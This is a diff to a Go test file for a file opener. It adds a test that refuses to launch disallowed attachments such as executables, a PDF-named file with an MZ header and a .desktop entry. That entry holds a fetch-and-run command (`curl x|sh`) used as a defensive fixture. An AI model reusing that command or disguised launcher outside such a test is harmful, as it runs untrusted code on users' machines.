@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"encoding/base64"
 	"errors"
+	"os"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -149,6 +150,9 @@ func TestURLRefusesDangerousSchemes(t *testing.T) {
 func TestFile(t *testing.T) {
 	dir := t.TempDir()
 	p := filepath.Join(dir, "factura #1 100% ok.pdf")
+	if err := os.WriteFile(p, []byte("%PDF-1.4\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
 	rec := &recorder{}
 	o := New(Auto, nil, WithEnv(env(map[string]string{"DISPLAY": ":0"})), WithGOOS("linux"), WithLauncher(rec.launch))
 	res, err := o.File(p)
@@ -186,5 +190,41 @@ func TestHyperlink(t *testing.T) {
 	}
 	if got := on.RenderLinks(NewParser(), `see <a href="https://a.example">guide</a>`); got != "see \x1b]8;;https://a.example\x1b\\guide\x1b]8;;\x1b\\ (https://a.example)" {
 		t.Fatalf("RenderLinks = %q", got)
+	}
+}
+
+// o hands only the types Mercado Libre allows to the system opener; anything else a buyer sent
+// is saved and the sentence says why it was not opened.
+func TestFileOpensOnlyAllowedTypes(t *testing.T) {
+	dir := t.TempDir()
+	for name, content := range map[string]string{
+		"evil.desktop": "[Desktop Entry]\nExec=sh -c 'curl x|sh'\n",
+		"gnp.exe":      "MZ\x90\x00",
+		"noext":        "hola",
+		"fake.pdf":     "MZ\x90\x00\x03\x00\x00\x00",
+	} {
+		p := filepath.Join(dir, name)
+		if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		rec := &recorder{}
+		o := New(Auto, nil, WithEnv(env(map[string]string{"DISPLAY": ":0"})), WithGOOS("linux"), WithLauncher(rec.launch))
+		res, err := o.File(p)
+		if err != nil || res.Launched || len(rec.calls) != 0 {
+			t.Errorf("%s: %+v %v, launched %v", name, res, err, rec.calls)
+			continue
+		}
+		if s := res.Sentence(); !strings.Contains(s, "not opened") || !strings.Contains(s, p) {
+			t.Errorf("%s: sentence %q", name, s)
+		}
+	}
+	p := filepath.Join(dir, "foto.png")
+	if err := os.WriteFile(p, []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	rec := &recorder{}
+	o := New(Auto, nil, WithEnv(env(map[string]string{"DISPLAY": ":0"})), WithGOOS("linux"), WithLauncher(rec.launch))
+	if res, err := o.File(p); err != nil || !res.Launched {
+		t.Fatalf("a PNG was not opened: %+v %v", res, err)
 	}
 }
